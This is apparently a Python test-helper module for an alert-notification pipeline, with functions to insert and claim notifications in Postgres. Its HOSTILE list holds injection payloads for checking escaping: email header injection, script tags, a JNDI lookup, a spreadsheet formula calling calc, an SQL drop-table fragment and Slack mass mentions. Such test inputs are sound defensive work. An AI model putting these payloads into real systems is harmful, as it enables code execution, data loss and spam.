"""Alerts and notifications put where the engine would put them, and what a notification says."""

from __future__ import annotations

import time
from typing import Any

from psycopg import sql
from psycopg.types.json import Jsonb

from support.db import Db

HOSTILE = [
    "<!channel> <!here> <@U123> @here @channel @everyone *bold* _it_ `code`",
    "Subject\r\nBcc: victim@example.com\r\n\r\nbody",
    "{code}rm -rf{code} [~admin] [click|http://evil.example] !http://evil.example/x.png! h1. shout",
    "](http://evil.example) **x** <script>alert(1)</script> # head | a | b |",
    "&lt;!channel&gt; &amp; \u202egnp.exe \x00\x07\x1b[31m \u2028 line",
    "a" * 9000,
    "=cmd|' /C calc'!A0 ${jndi:ldap://evil} '; drop table x; --",
    "\ud800 lone surrogate".encode("utf-8", "replace").decode(),
]


def message(title: str = "CR-02 Crawl error rate high: acme 54.0 % > 50.0 %", **more: Any) -> dict[str, Any]:
    return {
        "title": title,
        "kind": "firing",
        "severity": "page",
        "is_drill": False,
        "alert_code": "CR-02",
        "tenants": ["acme"],
        "fields": [],
        "summary": title,
        "cause": None,
        "next_step": "Look at it.",
        "sql": "select * from obs.diagnose(17);",
        "runbook_url": "https://runbooks.example/CR-02",
        "trace_url": None,
        "alert_ids": [17],
        "started_at": "2026-11-18T01:00:00+00:00",
        "text": f"{title}\nLook at it.",
        "tenant_id": "acme",
        "thread_key": "acme/7",
        "ticket_key": "acme/CR-02",
        "attempts": 1,
        **more,
    }


def put(db: Db, channel: str = "slack", number: int = 1, **columns: Any) -> int:
    """One notification; its id. Each has a thread of its own unless one is given."""
    values: dict[str, Any] = {
        "tenant_id": "a",
        "kind": "firing",
        "route_name": "warn",
        "channel": channel,
        "alert_code": "CR-02",
        "severity": "warning",
        "thread_key": f"t{number}",
        "ticket_key": f"k{number}",
        "facts": {"title": f"number {number}"},
        **columns,
    }
    names = sql.SQL(", ").join(map(sql.Identifier, values))
    places = sql.SQL(", ").join(sql.Placeholder() * len(values))
    query = sql.SQL("insert into obs.notifications ({}) values ({}) returning notification_id").format(names, places)
    adapted = [Jsonb(value) if isinstance(value, dict) else value for value in values.values()]
    found: int = db.conn.execute(query, adapted).fetchone()[0]
    return found


def put_alert(db: Db, tenant_id: str = "a", **columns: Any) -> int:
    values: dict[str, Any] = {
        "tenant_id": tenant_id,
        "alert_code": "CR-02",
        "subject": "crawl",
        "severity": "page",
        "rule_version": 1,
        "breached_at": "2026-11-18 01:00Z",
        "fired_at": "2026-11-18 01:00Z",
        **columns,
    }
    names = sql.SQL(", ").join(map(sql.Identifier, values))
    places = sql.SQL(", ").join(sql.Placeholder() * len(values))
    query = sql.SQL("insert into obs.alerts ({}) values ({}) returning alert_id").format(names, places)
    found: int = db.conn.execute(query, list(values.values())).fetchone()[0]
    return found


def claim(db: Db, *channels: str, forwarder_id: str = "f1", **more: Any) -> list[Any]:
    return db.calls("claim_notifications", forwarder_id=forwarder_id, channels=list(channels or ("slack",)), **more)


def make_due(db: Db) -> None:
    """Whatever waits for its next try or the end of a lease need not wait any longer."""
    db.execute("update obs.notifications set next_try_at = '-infinity' where state = 'waiting'")
    db.execute("update obs.notifications set lease_until = '-infinity' where state = 'leased'")


def states(db: Db) -> dict[int, str]:
    return dict(db.rows("select notification_id, state from obs.notifications order by 1"))


def wait_until(holds: Any, seconds: float = 15.0, what: str = "it") -> None:
    deadline = time.monotonic() + seconds
    while not holds():
        assert time.monotonic() < deadline, f"{what} did not come true within {seconds} s"
        time.sleep(0.02)


def notify(db: Db) -> None:
    db.execute("select pg_notify('obs_alerts', '1')")


def all_done(db: Db) -> bool:
    return set(states(db).values()) <= {"sent", "dead"}
